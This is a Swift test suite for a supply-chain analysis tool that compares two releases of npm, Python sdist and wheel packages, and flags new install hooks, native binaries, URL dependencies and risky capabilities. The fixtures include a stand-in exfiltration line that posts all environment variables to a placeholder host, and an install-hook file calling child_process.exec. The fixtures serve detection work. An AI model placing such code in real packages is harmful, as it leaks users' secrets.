import SallyportAnalysis
import SallyportModel
import Testing

@Suite("The delta of two reports")
struct ComparisonTests {
    @Test("is empty for the same package, and for another number")
    func same() {
        let files = ["install.js": "console.log(1)", "index.js": "module.exports = 1"]
        let first = Sample.report(Sample.npm(files, scripts: ["install": "node install.js"]))
        #expect(Comparison.delta(from: first, to: first).isEmpty)
        let second = Sample.report(Sample.npm(files, scripts: ["install": "node install.js"], version: "1.0.1"))
        #expect(Comparison.delta(from: first, to: second).map(\.code) == [.deltaFileChanged])
    }

    @Test("names a new hook")
    func hookAdded() {
        let facts = delta([:], [:], ["preinstall": "node x.js"])
        #expect(
            facts.contains {
                $0.code == .deltaHookAdded && $0.detail == "preinstall: node x.js" && $0.reach == .install
            }
        )
    }

    @Test("names a hook with another command, and one whose file does something else")
    func hookChanged() {
        #expect(
            codes(delta([:], [:], before: ["install": "echo a"], ["install": "echo b"])).contains(.deltaHookChanged)
        )
        let scripts = ["install": "node a.js"]
        let more = delta(
            ["a.js": "x(1)"],
            ["a.js": "require('child_process').exec(x(1))"],
            before: scripts,
            scripts
        )
        #expect(codes(more).contains(.deltaHookChanged))
        let address = delta(
            ["a.js": "fetch('https://a.example.invalid')"],
            ["a.js": "fetch('https://b.example.invalid')"],
            before: scripts,
            scripts
        )
        #expect(codes(address).contains(.deltaHookChanged))
    }

    @Test("tells a hook that does no more from one that does")
    func hookEdited() {
        let scripts = ["install": "node a.js"]
        let edited = delta(["a.js": "x(1)"], ["a.js": "y(1)"], before: scripts, scripts)
        #expect(codes(edited).contains(.deltaHookEdited))
        #expect(!codes(edited).contains(.deltaHookChanged))
    }

    @Test("says nothing of a hook whose file has another number, comment or layout")
    func hookSame() {
        let scripts = ["install": "node a.js"]
        let facts = delta(
            ["a.js": "const v = '1.0.0'; // one\nx(v)"],
            ["a.js": "const v = '1.0.1';\n\nx(v)"],
            before: scripts,
            scripts
        )
        #expect(Set(codes(facts)) == [.deltaFileChanged])
    }

    @Test("of source distributions does not see the version in folders and in setup.py")
    func sourceDistribution() {
        func release(_ version: String, _ more: String = "") -> Report {
            let setup =
                "from setuptools import setup\nsetup(name='x', version='\(version)', classifiers=['a'\(more)])\n"
            return Sample.report(Sample.sdist(["setup.py": setup], version: version), "sample-\(version).tar.gz")
        }
        let facts = Comparison.delta(from: release("1.0"), to: release("1.1", ", 'b', 'c'"))
        #expect(facts.map(\.code) == [.deltaFileChanged])
    }

    @Test("names new native files, but not one whose name carries a hash")
    func native() {
        let elf = [UInt8]("\u{7F}ELF".utf8) + [UInt8](repeating: 0, count: 100)
        let first = Sample.report(Sample.npm([:], binaries: ["lib/x-0a1b2c3d.so.1.0": elf]))
        let renamed = Sample.report(Sample.npm([:], binaries: ["lib/x-ffee9900.so.1.1": elf]))
        #expect(!codes(Comparison.delta(from: first, to: renamed)).contains(.deltaNativeAdded))
        let more = Sample.report(Sample.npm([:], binaries: ["lib/x-0a1b2c3d.so.1.0": elf, "y.node": elf]))
        let added = Comparison.delta(from: first, to: more).filter { $0.code == .deltaNativeAdded }
        #expect(added.map { $0.place?.path } == ["package/y.node"])
        func module(_ name: String) -> Report {
            Sample.report(wheel: Sample.wheel([:], binaries: ["x/\(name).so": elf]))
        }
        let named = module("_m.cpython-311-x86_64-linux-gnu")
        #expect(!codes(Comparison.delta(from: named, to: module("_m.abi3"))).contains(.deltaNativeAdded))
        #expect(codes(Comparison.delta(from: named, to: module("_n.abi3"))).contains(.deltaNativeAdded))
    }

    @Test("names new dependencies by their source")
    func dependencies() {
        func release(_ text: String) -> Report { Sample.report(Sample.npm([:], extra: "\"dependencies\": {\(text)}")) }
        let first = release("\"a\": \"^1\", \"u\": \"https://x.example.invalid/u.tgz\"")
        let second = release(
            "\"a\": \"^2\", \"b\": \"1\", \"u\": \"https://y.example.invalid/u.tgz\", \"g\": \"o/r#x\""
        )
        let facts = Comparison.delta(from: first, to: second)
        #expect(facts.filter { $0.code == .deltaDependencyAdded }.map(\.detail) == ["b 1 (runtime)"])
        #expect(facts.filter { $0.code == .deltaURLDependencyAdded }.count == 2)
    }

    @Test("names new capabilities and chains of code that runs, with the capability in front")
    func capabilities() {
        let facts = delta(
            ["index.js": "x()"],
            ["index.js": "fetch('https://x.example.invalid', {body: JSON.stringify(process.env)})"],
            [:]
        )
        let added = facts.filter { $0.code == .deltaCapabilityAdded }.map { $0.detail.prefix { $0 != ":" } }
        #expect(Set(added) == ["capability.network", "capability.environment", "chain.exfiltration"])
    }

    @Test("sums up files in one fact a kind, and names a jump in size")
    func files() {
        let big = String(repeating: "x();\n", count: 200_000)
        let facts = delta(["a.js": "x()", "gone.js": "1"], ["a.js": big, "b.js": "1", "c.js": "2"], [:])
        #expect(
            facts.filter { $0.code == .deltaFileAdded }.map(\.detail) == ["2 files added: package/b.js, package/c.js"]
        )
        #expect(facts.filter { $0.code == .deltaFileRemoved }.map(\.detail) == ["1 file removed: package/gone.js"])
        #expect(facts.filter { $0.code == .deltaSizeJump }.count == 2)
    }

    private func codes(_ facts: [Fact]) -> [FactCode] { facts.map(\.code) }

    private func delta(
        _ before: [String: String],
        _ after: [String: String],
        before scripts: [String: String] = [:],
        _ scriptsAfter: [String: String]
    ) -> [Fact] {
        let first = Sample.report(Sample.npm(before, scripts: scripts))
        return Comparison.delta(from: first, to: Sample.report(Sample.npm(after, scripts: scriptsAfter)))
    }
}
